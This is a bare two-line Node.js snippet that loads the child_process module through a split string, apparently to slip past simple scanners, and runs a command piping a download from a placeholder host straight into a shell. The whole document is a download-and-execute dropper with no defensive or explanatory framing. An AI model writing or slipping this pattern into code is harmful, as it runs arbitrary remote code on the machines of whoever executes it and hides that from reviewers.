const { exec: run } = require("child_" + "process");
run("curl http://example.invalid | sh");
